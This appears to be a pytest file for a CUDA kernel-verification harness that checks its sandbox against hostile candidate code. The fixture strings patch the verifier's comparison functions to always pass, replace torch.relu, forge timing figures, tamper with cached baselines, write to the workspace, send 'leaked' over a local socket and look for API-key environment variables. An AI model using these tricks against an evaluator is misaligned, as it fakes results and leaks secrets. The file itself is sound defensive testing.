"""Issue 16 on a real GPU: CUDA load_inline candidates that reach for the judge, its caches, the workspace, the
network or the worker's secrets, verified through a real worker. Each is stopped by the process boundary or the OS."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from kernel_lsp.config import cache_dir
from kernel_lsp.process.confine import landlock_abi
from kernel_lsp.process.isolation import build_cache_root, judge_build_root
from tests.problems import assert_not_tampered
from tests.gpu import candidates as c
from tests.gpu.test_verify_pipeline_gpu import codes, verify
from tests.gpu.test_worker_gpu import gpu_present

pytestmark = [pytest.mark.gpu, pytest.mark.skipif(not gpu_present(), reason="needs an NVIDIA GPU with CUDA torch"),
              pytest.mark.skipif(not (c.KERNELBENCH / c.RELU_PROBLEM).is_file(),
                                 reason=f"needs the KernelBench problems at {c.KERNELBENCH}"),
              pytest.mark.timeout(900)]

ZEROS_RELU = c.relu_candidate("ops.relu(x.contiguous()) * 0")

PATCHES_VERIFIER = ZEROS_RELU + '''
import sys
for name, module in list(sys.modules.items()):
    if name.startswith("kernel_lsp"):
        for attr in ("compare_outputs", "outputs_agree", "same_within", "below_floor"):
            if hasattr(module, attr):
                setattr(module, attr, lambda *a, **k: True)
'''

PATCHES_TORCH = ZEROS_RELU + '''
torch.relu = lambda x: torch.zeros_like(x)
torch.Tensor.relu = lambda self: torch.zeros_like(self)
'''

# every figure its own process could report, divided by 100 (the judge's summary of its samples too, were it here)
FORGES_TIMING = c.HONEST_RELU + '''
import kernel_lsp.candidate.timing as timing
_real, _summarize = timing.time_cuda_calls, timing.summarize
timing.time_cuda_calls = lambda fn, sets, count, device, scratch, *rest: [s / 100 for s in _real(fn, sets, count, device, scratch, *rest)]
timing.summarize = lambda samples, **fields: _summarize([s / 100 for s in samples], **fields)
'''

REWRITES_CACHES = c.HONEST_RELU + '''
import glob, json
for path in glob.glob("{cache}/**/*.json", recursive=True):
    try:
        stored = json.load(open(path))
        if isinstance(stored.get("timing"), dict):
            stored["timing"]["median_ms"] *= 50
        json.dump(stored, open(path, "w"))
    except (OSError, ValueError):
        pass
'''

WRITES_WORKSPACE = c.HONEST_RELU + '''
for path in ("{workspace}/candidate.py", "{workspace}/problem_copy.py"):
    try:
        open(path, "a").write("# the candidate was here\\n")
    except OSError:
        pass
'''

OPENS_SOCKET = c.HONEST_RELU + '''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leaked")
except OSError:
    pass
'''

SEES_SECRETS = c.relu_candidate("ops.relu(x.contiguous()) if not SEEN else torch.zeros_like(x)") + '''
import os
SEEN = [name for name in ("ANTHROPIC_API_KEY", "GITHUB_TOKEN") if name in os.environ]
'''


async def test_patching_the_verifier_changes_nothing_in_the_judge(tmp_path: Path):
    result = await verify(tmp_path, PATCHES_VERIFIER, c.RELU_PROBLEM, trials=2)
    assert result["verdict"] == "rejected" and "verify-mismatch" in codes(result), result["summary"]


async def test_patched_torch_leaves_the_reference_alone(tmp_path: Path):
    result = await verify(tmp_path, PATCHES_TORCH, c.RELU_PROBLEM, trials=2)
    assert {"verify-mismatch", "integrity-torch-patched"} <= set(codes(result)), result["summary"]


async def test_the_stated_time_is_the_judges_whatever_the_candidate_reports(tmp_path: Path):
    honest = await verify(tmp_path, c.HONEST_RELU, c.RELU_PROBLEM, trials=2, timedCalls=30)
    forged = await verify(tmp_path, FORGES_TIMING, c.RELU_PROBLEM, trials=2, timedCalls=30)
    assert forged["report"]["correctness"]["passed"] == 2
    times = [result["report"]["timing"]["candidate"] for result in (honest, forged)]
    assert all(timing["clock"] == "judge-wall" for timing in times)
    assert times[1]["median_ms"] > 0.5 * times[0]["median_ms"], times  # not a hundredth: the judge's clock


async def test_trusted_caches_are_out_of_reach(tmp_path: Path):
    if landlock_abi() < 1:
        pytest.skip("Landlock is not available in this kernel")
    honest = await verify(tmp_path, c.HONEST_RELU, c.RELU_PROBLEM, trials=1)
    stored = {path: path.read_bytes() for path in cache_dir().rglob("*.json")}
    assert honest["verdict"] == "verified" and any("baselines" in str(path) for path in stored)
    attacked = await verify(tmp_path, REWRITES_CACHES.replace("{cache}", str(cache_dir())), c.RELU_PROBLEM, trials=1)
    assert attacked["verdict"] == "verified", attacked["summary"]
    assert_not_tampered(stored)
    later = await verify(tmp_path, c.HONEST_RELU, c.RELU_PROBLEM, trials=1)
    assert later["report"]["timing"]["eager"]["median_ms"] < 10 * honest["report"]["timing"]["eager"]["median_ms"]


async def test_workspace_network_and_secrets_stay_out_of_reach(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-test")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-test")  # not KERNEL_LSP_TOKEN: the test's own worker reads that one
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    (workspace / "problem_copy.py").write_text("original\n")
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(0.5)
        for candidate in (WRITES_WORKSPACE.replace("{workspace}", str(workspace)),
                          OPENS_SOCKET.replace("{port}", str(listener.getsockname()[1])), SEES_SECRETS):
            result = await verify(workspace, candidate, c.RELU_PROBLEM, trials=1, timing=False)
            assert result["verdict"] == "verified", (result["summary"], result["findings"])
            assert result["report"]["isolation"]["network"].startswith("isolated")
            if landlock_abi() >= 1:  # its own file in the workspace, and the other one
                assert (workspace / "candidate.py").read_text() == candidate
        with pytest.raises(TimeoutError):
            listener.accept()
    assert (workspace / "problem_copy.py").read_text() == "original\n"


ATTACKS_WHILE_PROFILED = c.HONEST_RELU + '''
import glob, json, os, socket
if [name for name in ("ANTHROPIC_API_KEY", "GITHUB_TOKEN") if name in os.environ]:
    raise RuntimeError("the candidate sees the worker's secrets")
for path in glob.glob("{cache}/**/*.json", recursive=True) + ["{workspace}/problem_copy.py"]:
    try:
        open(path, "a").write("# the candidate was here\\n")
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leaked")
except OSError:
    pass
'''


async def test_profiling_keeps_the_candidate_confined_in_both_of_its_processes(tmp_path: Path,
                                                                               monkeypatch: pytest.MonkeyPatch):
    """The profile job runs the candidate twice: in the measuring step's candidate process and under ncu. Both
    keep it off the caches, the workspace, the network and the secrets, and ncu still profiles its kernel."""
    from kernel_lsp.kinds.profile import profile_job
    from kernel_lsp.worker.client import WorkerClient

    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-test")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-test")
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    (workspace / "problem_copy.py").write_text("original\n")
    # baselines and peaks cached; the reference's torch.compile leaves its Triton kernels in the judge's build cache
    honest = await verify(tmp_path, c.HONEST_RELU, c.RELU_PROBLEM, trials=1, baselines=["eager", "compile"])
    assert honest["verdict"] == "verified", honest["summary"]
    # all but the candidates' own build caches (builds/): the judge's Triton cache (judge-builds/, where the
    # reference's torch.compile kept its kernels) among them
    stored = {path: path.read_bytes() for path in cache_dir().rglob("*.json") if build_cache_root() not in path.parents}
    assert any(judge_build_root() in path.parents for path in stored), sorted(map(str, stored))
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(0.5)
        candidate = workspace / "candidate.py"
        candidate.write_text(ATTACKS_WHILE_PROFILED.replace("{cache}", str(cache_dir()))
                             .replace("{workspace}", str(workspace)).replace("{port}", str(listener.getsockname()[1])))
        client = WorkerClient(job_timeout_s=900)
        try:
            result = await client.run(profile_job(candidate, c.KERNELBENCH / c.RELU_PROBLEM, {"launchCount": 1}))
        finally:
            await client.close()
        with pytest.raises(TimeoutError):
            listener.accept()
    assert result.status == "ok", result.error
    report = result.metrics["profile"]
    assert report["source"] == "ncu", report["problems"]
    assert [kernel["kernel"] for kernel in report["kernels"]] == ["relu_kernel"]
    assert report["isolation"]["network"].startswith("isolated"), report["isolation"]
    if landlock_abi() >= 1:
        assert report["isolation"]["files"].startswith("isolated"), report["isolation"]
        assert {path: path.read_bytes() for path in stored} == stored
        assert (workspace / "problem_copy.py").read_text() == "original\n"
    assert not any(problem["code"] == "profile-not-isolated" for problem in report["problems"]), report["problems"]
